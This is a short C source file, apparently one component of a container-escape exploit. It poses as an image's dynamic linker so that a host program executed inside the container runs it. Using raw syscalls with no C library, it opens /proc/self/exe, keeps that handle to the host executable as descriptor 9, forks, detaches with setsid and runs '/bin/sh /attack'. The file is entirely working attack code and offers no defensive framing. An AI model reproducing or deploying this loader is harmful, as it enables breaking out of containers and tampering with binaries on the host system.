/* An image's dynamic linker that is not one: whatever dynamic program of the host is executed inside, this runs, with that
 * program as /proc/self/exe. It keeps a descriptor of it as number 9, leaves its parent, and becomes /attack. No C library. */
static long call(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}

__attribute__((force_align_arg_pointer)) void _start(void) {
  static char *words[] = { "sh", "/attack", 0 }, *variables[] = { "PATH=/bin", 0 };
  long fd = call(2, (long)"/proc/self/exe", 0, 0);
  call(33, fd, 9, 0);
  if (call(57, 0, 0, 0) == 0) {
    call(112, 0, 0, 0);
    call(59, (long)"/bin/sh", (long)words, (long)variables);
  }
  call(231, 0, 0, 0);
  for (;;) {}
}
